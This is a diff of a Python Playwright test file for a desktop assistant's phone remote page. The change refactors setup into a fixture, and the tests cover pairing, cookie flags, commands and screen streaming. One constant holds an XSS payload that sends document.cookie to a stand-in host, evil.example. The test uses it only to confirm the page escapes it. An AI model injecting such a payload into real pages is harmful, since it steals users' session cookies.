@@ -11,14 +11,10 @@ import os
 
 import pytest
 from helpers import wait_for
-from remote_kit import CHROMIUM, PHONE, SCREEN_SUM, TEST_LIMITS, desktop_screen, phone_settings
+from remote_kit import CHROMIUM, PHONE, SCREEN_SUM, phone_remote
 
-from anovax.app import Assistant
 from anovax.desktop import SimulatedDesktop
 from anovax.events import EventType
-from anovax.memory import Memory
-from anovax.remote import RemoteServer
-from anovax.remote.state import assistant_state
 
 XSS = '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">'
 
@@ -37,92 +33,74 @@ def test_the_buttons_stay_put_when_the_screen_picture_arrives_or_pauses(tmp_path
     """A tap aimed at a button must land on it: the picture above the buttons keeps its box
     whether a frame has arrived or not (a layout shift made a loaded run's tap miss)."""
     sync_playwright = _playwright()
-    settings = phone_settings(tmp_path)
-    assistant = Assistant(settings, memory=Memory(settings.memory_path), desktop=SimulatedDesktop())
-    with desktop_screen(tmp_path) as frames:
-        server = RemoteServer(settings, assistant.bus, assistant.submit, state=assistant_state(assistant),
-                              frames=frames, limits=TEST_LIMITS)
-        server.start()
-        try:
-            with sync_playwright() as p:
-                browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
-                page = browser.new_context(**PHONE).new_page()
-                page.goto(server.pairing_url)
-                page.wait_for_selector("#remote:not([hidden])")
-                button = page.locator("button[data-command='open notepad']")
-                wait_for(lambda: page.evaluate(SCREEN_SUM), what="a first frame on the page")
-                with_picture = button.bounding_box()
-                page.tap("#screen-toggle")  # paused: the <img> has no picture at all
-                wait_for(lambda: page.evaluate("() => !document.getElementById('screen').getAttribute('src')"),
-                         what="the screen to pause")
-                assert button.bounding_box() == with_picture
-                browser.close()
-        finally:
-            server.stop()
-            assistant.close()
+    with phone_remote(tmp_path) as (_assistant, server, _frames):
+        with sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
+            page = browser.new_context(**PHONE).new_page()
+            page.goto(server.pairing_url)
+            page.wait_for_selector("#remote:not([hidden])")
+            button = page.locator("button[data-command='open notepad']")
+            wait_for(lambda: page.evaluate(SCREEN_SUM), what="a first frame on the page")
+            with_picture = button.bounding_box()
+            page.tap("#screen-toggle")  # paused: the <img> has no picture at all
+            wait_for(lambda: page.evaluate("() => !document.getElementById('screen').getAttribute('src')"),
+                     what="the screen to pause")
+            assert button.bounding_box() == with_picture
+            browser.close()
 
 
 def test_phone_page_pairs_runs_a_command_and_shows_the_live_screen(tmp_path):
     sync_playwright = _playwright()
-    settings = phone_settings(tmp_path)
     desktop = SimulatedDesktop()
-    assistant = Assistant(settings, memory=Memory(settings.memory_path), desktop=desktop)
-    with desktop_screen(tmp_path) as frames:
-        server = RemoteServer(settings, assistant.bus, assistant.submit, state=assistant_state(assistant),
-                              frames=frames, limits=TEST_LIMITS)
-        server.start()
+    with phone_remote(tmp_path, desktop) as (assistant, server, _frames):
         evil_requests = []
-        try:
-            with sync_playwright() as p:
-                browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
-                context = browser.new_context(**PHONE)
-                page = context.new_page()
-                page.on("request", lambda r: "evil.example" in r.url and evil_requests.append(r.url))
+        with sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
+            context = browser.new_context(**PHONE)
+            page = context.new_page()
+            page.on("request", lambda r: "evil.example" in r.url and evil_requests.append(r.url))
 
-                # unpaired first: the page says so and streams nothing
-                page.goto(server.address + "/")
-                page.wait_for_selector("#unpaired:not([hidden])")
-                assert server.viewers == 0 and server.event_clients == 0
+            # unpaired first: the page says so and streams nothing
+            page.goto(server.address + "/")
+            page.wait_for_selector("#unpaired:not([hidden])")
+            assert server.viewers == 0 and server.event_clients == 0
 
-                page.goto(server.pairing_url)  # what scanning the QR code does
-                page.wait_for_selector("#remote:not([hidden])")
-                assert page.url == server.address + "/"
-                cookie = next(c for c in context.cookies() if c["name"] == "anovax_session")
-                assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
-                wait_for(lambda: server.event_clients == 1 and server.viewers == 1, what="page streams attached")
+            page.goto(server.pairing_url)  # what scanning the QR code does
+            page.wait_for_selector("#remote:not([hidden])")
+            assert page.url == server.address + "/"
+            cookie = next(c for c in context.cookies() if c["name"] == "anovax_session")
+            assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
+            wait_for(lambda: server.event_clients == 1 and server.viewers == 1, what="page streams attached")
 
-                page.tap("button[data-command='open notepad']")
-                page.wait_for_selector("#events li[data-type='AGENT_SPAWNED']")
-                page.wait_for_selector("#events li[data-type='AGENT_DONE']")
-                spawned = page.locator("#events li[data-type='AGENT_SPAWNED']").first.inner_text()
-                assert "open_app" in spawned and "notepad" in spawned
-                page.wait_for_selector("#replies li")
+            page.tap("button[data-command='open notepad']")
+            page.wait_for_selector("#events li[data-type='AGENT_SPAWNED']")
+            page.wait_for_selector("#events li[data-type='AGENT_DONE']")
+            spawned = page.locator("#events li[data-type='AGENT_SPAWNED']").first.inner_text()
+            assert "open_app" in spawned and "notepad" in spawned
+            page.wait_for_selector("#replies li")
 
-                # a typed command
-                page.fill("#command-text", "what time is it")
-                page.press("#command-text", "Enter")
-                wait_for(lambda: any(e.type == EventType.COMMAND_DONE and e.data["text"] == "what time is it"
-                                     for e in assistant.bus.recent(0)), what="typed command done")
+            # a typed command
+            page.fill("#command-text", "what time is it")
+            page.press("#command-text", "Enter")
+            wait_for(lambda: any(e.type == EventType.COMMAND_DONE and e.data["text"] == "what time is it"
+                                 for e in assistant.bus.recent(0)), what="typed command done")
 
-                # the <img> shows new frames as the screen changes
-                first = wait_for(lambda: page.evaluate(SCREEN_SUM), what="a first frame on the page")
-                wait_for(lambda: page.evaluate(SCREEN_SUM) not in (None, first), timeout_s=30,
-                         what="the screen image to change")
-                assert server._ctx.screen.encoded >= 2
+            # the <img> shows new frames as the screen changes
+            first = wait_for(lambda: page.evaluate(SCREEN_SUM), what="a first frame on the page")
+            wait_for(lambda: page.evaluate(SCREEN_SUM) not in (None, first), timeout_s=30,
+                     what="the screen image to change")
+            assert server._ctx.screen.encoded >= 2
 
-                page.locator("#command-text").blur()
-                shot = tmp_path / "phone.png"
-                page.screenshot(path=str(shot), full_page=True)
-                assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
+            page.locator("#command-text").blur()
+            shot = tmp_path / "phone.png"
+            page.screenshot(path=str(shot), full_page=True)
+            assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
 
-                # transcripts and model replies are shown as text, never as markup (H-28)
-                assistant.bus.emit(EventType.COMMAND_RECEIVED, "c-xss", data={"text": XSS})
-                page.wait_for_selector("#events li[data-command='c-xss']")
-                assert page.locator("#events li[data-command='c-xss'] .detail").inner_text() == XSS
-                assert page.locator("#events img").count() == 0
-                browser.close()
-        finally:
-            server.stop()
-            assistant.close()
+            # transcripts and model replies are shown as text, never as markup (H-28)
+            assistant.bus.emit(EventType.COMMAND_RECEIVED, "c-xss", data={"text": XSS})
+            page.wait_for_selector("#events li[data-command='c-xss']")
+            assert page.locator("#events li[data-command='c-xss'] .detail").inner_text() == XSS
+            assert page.locator("#events img").count() == 0
+            browser.close()
     assert evil_requests == []
     assert [a.kind for a in desktop.actions][:1] == ["launch"]
